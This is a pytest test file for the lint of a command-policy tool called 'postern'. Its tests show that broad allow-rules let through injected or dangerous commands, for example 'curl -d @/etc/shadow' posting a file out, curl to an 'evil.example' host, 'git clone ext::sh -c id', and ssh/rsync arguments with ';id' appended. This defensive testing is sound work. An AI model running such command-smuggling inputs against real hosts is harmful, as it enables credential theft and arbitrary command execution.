"""The lints of postern policy check: planted mistakes, and no false alarm."""

import json
import os
import pathlib
import re
import subprocess

import pytest

BUILD = os.environ["POSTERN_BUILD"]
HERE = pathlib.Path(__file__).parent
EXAMPLES = HERE.parent.parent / "doc" / "examples"


def check(folder, *args):
    return subprocess.run([BUILD + "/cli/postern", "policy", "check", *args],
                          cwd=folder, capture_output=True, text=True,
                          check=False)


def test_lint_finds_what_is_planted():
    r = check(HERE / "lint", "planted.postern")
    assert r.returncode == 1 and r.stdout == ""
    want = HERE / "lint" / "planted.expect"
    if os.environ.get("UPDATE_GOLDEN"):
        want.write_text(r.stderr)
    assert r.stderr == want.read_text()
    found = [x["message"] for x in json.loads(
        check(HERE / "lint", "--json", "planted.postern").stdout)]
    assert len(found) >= 40
    names = {m.rsplit("[", 1)[1] for m in found}
    assert len(names) >= 19, sorted(names)


@pytest.mark.parametrize("name, findings", [
    ("cookbook.postern", []),
    ("cookbook.postern team-docs.postern", []),
    # which is no false one, and the file says so
    ("cookbook.postern ansible.postern", [
        "warning: `sh -c` runs what follows [escape]"] * 5),
    # which the example keeps for readers: no rule is for it
    ("acme.postern", ["warning: no rule uses the identity `dba-job` "
                      "[unused]"])])
def test_lint_gives_no_false_alarm(name, findings):
    r = check(EXAMPLES, "--json", *name.split())
    assert r.returncode == 0
    assert [x["message"] for x in json.loads(r.stdout)] == findings


def test_the_cookbook_is_what_its_page_shows():
    page = (EXAMPLES.parent / "COOKBOOK.md").read_text()
    blocks = re.findall("^```postern\n(.*?)^```$", page, re.S | re.M)
    assert "\n".join(blocks) == (EXAMPLES / "cookbook.postern").read_text()


def test_each_rule_of_the_cookbook_has_a_test(tmp_path):
    """Without it the policy's own tests fail."""
    text = (EXAMPLES / "cookbook.postern").read_text()
    rules = re.findall(r"^(?:allow|deny) \w+ for (?:[^\n]*\}|[^\n]*\{\n.*?^\})$",
                       text, re.S | re.M)
    assert len(rules) == 30
    for n, rule in enumerate(rules):
        (tmp_path / "a.postern").write_text(text.replace(rule, ""))
        r = check(tmp_path, "a.postern")
        # a floor only adds, and a test speaks of no demand but approvals
        assert r.returncode == 1 or "floor" in rule, rule
        assert "floor" in rule or re.search(
            "expected |there is no rule", r.stderr), r.stderr


HEAD = '''policy 1
issuer ci { preset custom; url "https://ci.example"; audience "b"; algorithms ES256 }
identity a from ci { claim repo = "1" }
target t { ssh "deploy@10.0.0.1:22"; hostkey ssh-ed25519 "SHA256:Iqa3gjbrQfns01VnUq4pXClhTXeRLWlnVqBNps45L9U"; login root }
test "x" as a on t { deny "x" }
'''


@pytest.mark.parametrize("path, where, code", [
    ("/home/deploy", "t", 1), ("/home/deploy/x", "t", 1), ("/home", "t", 1),
    ("/root/.ssh", "root+t", 1), ("/home/deployer", "t", 0),
    ("/srv", "t", 0), ("/root", "t", 0), ("/home/deploy", "root+t", 0)])
def test_lint_home_fails(tmp_path, path, where, code):
    (tmp_path / "a.postern").write_text(
        HEAD + f"allow w for a on {where} {{ write under {path} by sftp "
        "max 1MiB }\n")
    r = check(tmp_path, "a.postern")
    assert r.returncode == code, r


# A rule that one would write, what it lets through, and what is said of it.
NAIVE = [
    ("/usr/bin/systemctl restart <text 1..40>",
     "/usr/bin/systemctl restart '*'", "`systemctl` takes a pattern"),
    ("/usr/bin/systemctl enable <text 1..40>",
     "/usr/bin/systemctl enable /srv/x.service",
     "`systemctl enable` makes a unit of any file"),
    ("/usr/bin/id | /usr/bin/awk <text 1..80>",
     "/usr/bin/id | /usr/bin/awk 'BEGIN{system(\"id\")}'",
     "`awk` runs its program"),
    ("/usr/bin/id | /usr/bin/tee </srv/app/**>",
     "/usr/bin/id | /usr/bin/tee /srv/app/link/x", "`tee` writes any file"),
    ("/usr/bin/id | /bin/sh", "/usr/bin/id | /bin/sh",
     "`sh` runs what the program in front of it says"),
    ("/usr/bin/sed -n <text 1..9> </srv/log/*>",
     "/usr/bin/sed -n '1e id' /srv/log/x", "`sed` runs and writes"),
    ("/usr/bin/make -C /srv/b <text 1..40>",
     "/usr/bin/make -C /srv/b SHELL=/tmp/x", "`make` takes NAME=VALUE"),
    ("/usr/bin/curl -d <text 1..40> https://a.example/x",
     "/usr/bin/curl -d @/etc/shadow https://a.example/x",
     "`curl -d` sends the file"),
    ("/usr/bin/curl -fsS <text 1..80>", "/usr/bin/curl -fsS file:///etc/shadow",
     "`curl` takes any URL"),
    ("/usr/bin/curl https://a.example<text 1..80>",
     "/usr/bin/curl https://a.example@evil.example",
     "`curl` asks any host that begins so"),
    ("/usr/bin/git fetch origin <text 1..80>",
     "/usr/bin/git fetch origin +refs/heads/x:refs/heads/main",
     "`git fetch` takes any URL"),
    ("/usr/bin/git clone <text 1..80> </srv/c/*>",
     "/usr/bin/git clone 'ext::sh -c id' /srv/c/x", "`git clone` takes any"),
    ("/usr/bin/kubectl get <text 1..40>", "/usr/bin/kubectl get secrets",
     "`kubectl get` shows secrets"),
    ("/usr/bin/kubectl get pods -o <text 1..80>",
     "/usr/bin/kubectl get pods -o jsonpath-file=/etc/shadow",
     "`kubectl -o` reads the file"),
    ("/usr/bin/ssh b@10.0.0.9 /opt/rotate <text 1..80>",
     "/usr/bin/ssh b@10.0.0.9 /opt/rotate 'daily; id'", "`ssh` gives its words"),
    ("/usr/bin/ssh b@10.0.0.9 </opt/bin/*>",
     "/usr/bin/ssh b@10.0.0.9 '/opt/bin/x;id'", "`ssh` gives its words"),
    ("/usr/bin/rsync -a /srv/a b@10.0.0.9:</srv/in/**>",
     "/usr/bin/rsync -a /srv/a 'b@10.0.0.9:/srv/in/x;id'",
     "`rsync` gives this to a shell"),
    ("/usr/bin/rsync -a <text 1..80> /srv/b",
     "/usr/bin/rsync -a evil:/etc /srv/b", "`rsync` takes HOST:"),
    ("/usr/bin/sudo /usr/bin/tar -xf </srv/*> -I <text 1..9>",
     "/usr/bin/sudo /usr/bin/tar -xf /srv/x -I id", "`tar -I` runs its value"),
    ("/usr/bin/psql -c <text 1..80>", "/usr/bin/psql -c '\\\\! id'",
     "`psql -c` runs what"),
    ("/usr/bin/apt-get install <text 1..80>",
     "/usr/bin/apt-get install /srv/in/x.deb", "`apt-get` installs a file"),
    ("/usr/bin/docker run --rm <text 1..80>",
     "/usr/bin/docker run --rm evil.example/x", "`docker run` runs any image"),
    ("/usr/bin/ln -s </srv/a/**> </srv/b/**>",
     "/usr/bin/ln -s /srv/a/x /srv/b/y", "`ln` makes a name for any file"),
    # what lies where a job may write
    ("/srv/in/run.sh", "/srv/in/run.sh",
     "rule `up` lets a job write there, and what lies there decides what "
     "`run.sh` does [written]"),
    ("in </srv/*> /usr/bin/git gc", "cd /srv/in && /usr/bin/git gc",
     "decides what `git` does [written]"),
    ("/usr/bin/make -C </srv/*> all", "/usr/bin/make -C /srv/in all",
     "decides what `make` does [written]"),
]


def test_lint_says_what_natural_rules_let_through(tmp_path):
    text = HEAD + "allow up for a on t { write under /srv/in by sftp max 1MiB }\n"
    first = text.count("\n") + 1
    text += "".join(f"allow n{i} for a on t {{ run {rule} }}\n"
                    for i, (rule, _, _) in enumerate(NAIVE))
    text += 'test "they do" as a on t {\n' + "".join(
        '    allow "{}" by n{}\n'.format(c.replace('"', '\\"'), i)
        for i, (_, c, _) in enumerate(NAIVE)) + "}\n"
    (tmp_path / "a.postern").write_text(text)
    r = check(tmp_path, "--json", "a.postern")
    assert r.returncode == 0, r.stdout + r.stderr
    found = json.loads(r.stdout)
    for i, (rule, _, want) in enumerate(NAIVE):
        assert [x for x in found if x["line"] == first + i
                and want in x["message"]], (rule, want)


@pytest.mark.parametrize("rule", [
    "run in </srv/co/*> /usr/bin/git gc", "run in </srv/*> /usr/bin/wc x",
    "run /srv/bin/x", "run /usr/bin/make -C /srv/co all",
    "run /usr/bin/curl -fsS https://a.example/<text 1..80>",
    "run /usr/bin/sed -n <int 1..9>p </srv/log/*>",
    "run /usr/bin/awk '{print $1}' </srv/log/*>",
    "run /usr/bin/git fetch origin <git-ref \"refs/tags/v<int>\">",
    "run /usr/bin/git log -n 5 <text 1..80>",
    "run /usr/bin/docker logs --tail=<int 1..9> <text 1..40>",
    "run /usr/bin/ssh b@10.0.0.9 /opt/rotate <int 1..9>",
    "run /usr/bin/sudo /usr/bin/systemctl restart <enum a b>",
    "run /usr/bin/id | /usr/bin/awk '{print $1}'",
    "run /usr/bin/tar -xzf </srv/r/*> -C /srv/x"])
def test_lint_lets_good_rules_be(tmp_path, rule):
    (tmp_path / "a.postern").write_text(
        HEAD + "allow up for a on t { write under /srv/in by sftp max 1MiB }\n"
        f"allow n for a on t {{ {rule} }}\n")
    r = check(tmp_path, "--json", "a.postern")
    assert json.loads(r.stdout) == [], r.stdout


def test_lint_looks_at_what_is_written_on_the_same_machine(tmp_path):
    (tmp_path / "a.postern").write_text(HEAD.replace("on t {", "on u {") + '''
target u { ssh "deploy@10.0.0.2:22"; hostkey ssh-ed25519 "SHA256:WIcL2yAl04nASo8twTZWecsPlnZ/w/H2YZ8QsH0L8+A" }
allow up for a on t { write under /srv/in by sftp max 1MiB }
allow run for a on u { run /srv/in/run.sh }
deny no for a on u { write under /srv/in by sftp; because "no" }
''')
    r = check(tmp_path, "--json", "a.postern")
    assert json.loads(r.stdout) == [], r.stdout


def test_of_two_lines_for_a_repository_that_for_every_ref_decides(tmp_path):
    (tmp_path / "a.postern").write_text(HEAD + '''
allow a for a on t { git read /srv/a.git refs "refs/heads/**" }
allow z for a on t { git read /srv/a.git }
test "every ref" as a on t { allow git read "/srv/a.git" by z }
''')
    r = check(tmp_path, "a.postern")
    assert r.returncode == 0, r.stderr
